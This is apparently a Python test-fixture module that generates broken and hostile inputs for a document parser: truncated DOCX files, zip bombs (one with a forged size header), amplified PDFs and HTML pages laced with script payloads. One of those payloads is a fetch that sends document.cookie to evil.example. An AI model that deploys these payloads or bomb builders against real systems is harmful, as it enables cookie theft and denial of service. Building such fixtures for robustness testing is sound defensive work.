"""Builders of broken, hostile and odd input files, all generated in memory (nothing shipped).

Each builder returns bytes; ``docx_bytes`` and ``image_only_pdf`` build valid files that the
others damage.
"""

from __future__ import annotations

import functools
import io
import zipfile
import zlib

from .helpers import make_doc

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx_bytes(paragraphs: list[str]) -> bytes:
    import docx

    d = docx.Document()
    for p in paragraphs:
        d.add_paragraph(p)
    buf = io.BytesIO()
    d.save(buf)
    return buf.getvalue()


def _rezip(data: bytes, replace: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, replace.get(info.filename, zin.read(info)))
    return out.getvalue()


def docx_bad_xml() -> bytes:
    good = docx_bytes(make_doc(3).splitlines())
    with zipfile.ZipFile(io.BytesIO(good)) as z:
        xml = z.read("word/document.xml")
    return _rezip(good, {"word/document.xml": xml[: len(xml) // 2]})


@functools.lru_cache(maxsize=4)
def docx_bomb(megabytes: int = 300) -> bytes:
    """A .docx whose document.xml inflates to ``megabytes`` MB; streamed, so building it stays small."""
    good = docx_bytes(["标题"])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename != "word/document.xml":
                zout.writestr(info.filename, zin.read(info))
                continue
            zi = zipfile.ZipInfo("word/document.xml")
            zi.compress_type = zipfile.ZIP_DEFLATED
            with zout.open(zi, "w", force_zip64=True) as fh:
                fh.write(f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>'.encode())
                block = "数据".encode() * (1 << 18)  # 1.5 MB of text, compresses ~1000:1
                for _ in range(megabytes * 2 // 3):
                    fh.write(block)
                fh.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return out.getvalue()


@functools.lru_cache(maxsize=1)
def docx_lying_bomb() -> bytes:
    """The bomb again, but its directory claims document.xml is 2 MB: a reader must not trust that."""
    data = bytearray(docx_bomb(200))
    name = b"word/document.xml"
    pos = 0
    while True:  # patch the uncompressed size in the central directory (and zip64 extra) entries
        pos = data.find(b"PK\x01\x02", pos)
        if pos < 0:
            break
        n = int.from_bytes(data[pos + 28 : pos + 30], "little")
        m = int.from_bytes(data[pos + 30 : pos + 32], "little")
        if bytes(data[pos + 46 : pos + 46 + n]) == name:
            claimed = 2 * 1024 * 1024
            if int.from_bytes(data[pos + 24 : pos + 28], "little") == 0xFFFFFFFF:
                extra = pos + 46 + n
                end = extra + m
                while extra < end:  # zip64 extra block: tag 1, first field is the uncompressed size
                    tag = int.from_bytes(data[extra : extra + 2], "little")
                    size = int.from_bytes(data[extra + 2 : extra + 4], "little")
                    if tag == 1:
                        data[extra + 4 : extra + 12] = claimed.to_bytes(8, "little")
                        break
                    extra += 4 + size
            else:
                data[pos + 24 : pos + 28] = claimed.to_bytes(4, "little")
        pos += 4
    return bytes(data)


def _pdf(objects: list[bytes]) -> bytes:
    """Assemble numbered objects (1..n, the first the catalog) into a PDF with a correct xref."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def image_only_pdf() -> bytes:
    """A valid one-page PDF that paints an 8x8 grey image and has no text operators (a 'scan')."""
    pixels = bytes(range(0, 256, 4))
    content = b"q 200 0 0 200 50 50 cm /Im0 Do Q"
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Resources << /XObject << /Im0 5 0 R >> >> "
        b"/Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 "
        b"/Length %d >>\nstream\n" % len(pixels) + pixels + b"\nendstream",
    ])


def blank_pdf() -> bytes:
    from pypdf import PdfWriter

    w = PdfWriter()
    w.add_blank_page(200, 200)
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def encrypted_pdf() -> bytes:
    from pypdf import PdfWriter

    w = PdfWriter()
    w.add_blank_page(200, 200)
    w.encrypt("secret")
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


HOSTILE_HTML = """<!DOCTYPE html><html><head><title>{title}</title>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<script>document.write("SCRIPT_PAYLOAD"); fetch("http://evil.example/steal?c=" + document.cookie)</script>
<script src="http://evil.example/x.js"></script>
<link rel="stylesheet" href="http://evil.example/x.css"><style>body {{ background: url(http://evil.example/bg.png) }}</style>
</head><body onload="steal()">
<iframe src="http://evil.example/frame">IFRAME_PAYLOAD</iframe>
<img src="http://tracker.example/pixel.gif?id=1" width="1" height="1" alt="">
<img src="https://cdn.example/figure.png" onerror="alert('ONERROR_PAYLOAD')">
<object data="http://evil.example/x.swf">OBJECT_PAYLOAD</object>
<noscript>NOSCRIPT_PAYLOAD</noscript>
<h1>{title}</h1>
{paragraphs}
<p><a href="javascript:alert('LINK_PAYLOAD')">附件下载</a></p>
<svg><script>alert("SVG_PAYLOAD")</script></svg>
<script>alert("TAIL_PAYLOAD")</script>
</body></html>"""


def hostile_html(i: int) -> bytes:
    lines = make_doc(i).splitlines()
    paras = "\n".join(f"<p>{line}</p>" for line in lines[1:] if line.strip())
    return HOSTILE_HTML.format(title=lines[0], paragraphs=paras).encode("utf-8")


def pdf_shared_stream(pages: int, kilobytes: int, own_text: bool = False) -> bytes:
    """A PDF whose ``pages`` pages all draw one Flate content stream of ``kilobytes`` KB decoded
    (it compresses ~500:1). With ``own_text`` each page also has a small stream of its own."""
    line = b"BT /F1 12 Tf 50 700 Td (Digital economy plan, Guizhou 2025) Tj ET\n"
    packed = zlib.compress(line * (kilobytes * 1024 // len(line)), 9)
    shared = 3 + pages
    font = shared + 1
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (" ".join(f"{3 + i} 0 R" for i in range(pages)).encode(), pages)]
    for i in range(pages):
        contents = f"[{shared} 0 R {font + 1 + i} 0 R]" if own_text else f"{shared} 0 R"
        objs.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 {font} 0 R >> >>"
                    f" /Contents {contents} >>".encode())
    objs.append(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream")
    objs.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    if own_text:
        for i in range(pages):
            own = f"BT /F1 12 Tf 50 600 Td (Page {i + 1} of the Yunnan plan) Tj ET".encode()
            objs.append(b"<< /Length %d >>\nstream\n" % len(own) + own + b"\nendstream")
    return _pdf(objs)


def pdf_form_amplified(uses: int, kilobytes: int) -> bytes:
    """One page whose small content stream draws one Form XObject of ``kilobytes`` KB ``uses`` times."""
    line = b"BT /F1 12 Tf 50 700 Td (Sichuan digital economy) Tj ET\n"
    form = zlib.compress(line * (kilobytes * 1024 // len(line)), 9)
    content = zlib.compress(b"/X0 Do\n" * uses, 9)
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 6 0 R >>"
        b" /XObject << /X0 5 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 6 0 R >> >>"
        b" /Length %d /Filter /FlateDecode >>\nstream\n" % len(form) + form + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def docx_amplified(paragraphs: int, seed: int = 1, preamble_kb: int = 0) -> bytes:
    """A .docx under the zip-bomb limits whose XML is mostly formatting: each short paragraph of
    varied text carries ~250 bytes of run and paragraph properties, as long Word documents do
    (``preamble_kb`` of bookmarks come first)."""
    import random

    rng = random.Random(seed)
    han = [chr(c) for c in range(0x4E00, 0x4E00 + 3000)]
    good = docx_bytes(["标题"])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename != "word/document.xml":
                zout.writestr(info.filename, zin.read(info))
                continue
            with zout.open(zipfile.ZipInfo("word/document.xml"), "w", force_zip64=True) as fh:
                fh.write(f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}"><w:body>'.encode())
                for k in range(preamble_kb * 16):
                    fh.write(f'<w:bookmarkStart w:id="{k}" w:name="b{k:08d}"/><w:bookmarkEnd w:id="{k}"/>'.encode())
                for _ in range(paragraphs):
                    text = "".join(rng.choice(han) for _ in range(3))
                    fh.write(f'<w:p><w:pPr><w:spacing w:line="360" w:lineRule="auto"/><w:ind w:firstLine="640"/>'
                             f'</w:pPr><w:r><w:rPr><w:rFonts w:ascii="FangSong" w:hAnsi="FangSong"/><w:sz w:val="32"/>'
                             f"</w:rPr><w:t>{text}</w:t></w:r></w:p>".encode())
                fh.write(b"</w:body></w:document>")
    return out.getvalue()


_UNCLOSED = ['<embed src="http://evil.example/x.swf">', "<video src='v.mp4'>", "<button onclick='steal()'>",
             "<select name='s'><option>OPTION_PAYLOAD</option>", "<svg><script>alert('SVG_PAYLOAD')</script>",
             "<object data='x.swf'>", "<canvas>", "<audio controls>", "<source src='a.mp4'>", "<iframe src='x'>"]


def hostile_html_unclosed(i: int) -> tuple[bytes, bytes]:
    """(a page whose article is interleaved with unclosed media, form and raw-text tags,
    the same page without them)."""
    lines = [line for line in make_doc(i).splitlines() if line.strip()]
    body = [f"<p>{line}</p>" for line in lines[1:]]
    hostile = [p + _UNCLOSED[k % len(_UNCLOSED)] for k, p in enumerate(body)]
    page = "<html><head><title>{t}</title></head><body><div class='article'><h1>{t}</h1>{b}</div></body></html>"
    return (page.format(t=lines[0], b="".join(hostile)).encode(), page.format(t=lines[0], b="".join(body)).encode())


def text_pdf(lines: list[str]) -> bytes:
    """One page whose text layer holds ``lines`` (any Unicode, through a ToUnicode CMap); each
    space is drawn as a positioning gap, the way typesetters justify Chinese and set numbers apart."""
    chars = sorted({c for line in lines for c in line if c != " "})
    cid = {c: f"{i + 1:04X}" for i, c in enumerate(chars)}
    ops = ["BT /F1 12 Tf 14 TL 50 780 Td"]
    for line in lines:
        segments = ["<" + "".join(cid[c] for c in seg) + ">" for seg in line.split(" ")]
        ops.append("[" + " -400 ".join(segments) + "] TJ T*")
    content = ("\n".join(ops) + "\nET").encode()
    cmap = ("/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /U def /CMapType 2 def\n"
            "1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
            + "".join(f"1 beginbfchar <{cid[c]}> <{ord(c):04X}> endbfchar\n" for c in chars)
            + "endcmap CMapName currentdict /CMap defineresource pop end end").encode()
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>"
        b" /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type0 /BaseFont /T /Encoding /Identity-H /DescendantFonts [6 0 R]"
        b" /ToUnicode 7 0 R >>",
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /T /CIDSystemInfo << /Registry (Adobe)"
        b" /Ordering (Identity) /Supplement 0 >> /DW 1000 >>",
        b"<< /Length %d >>\nstream\n" % len(cmap) + cmap + b"\nendstream",
    ])
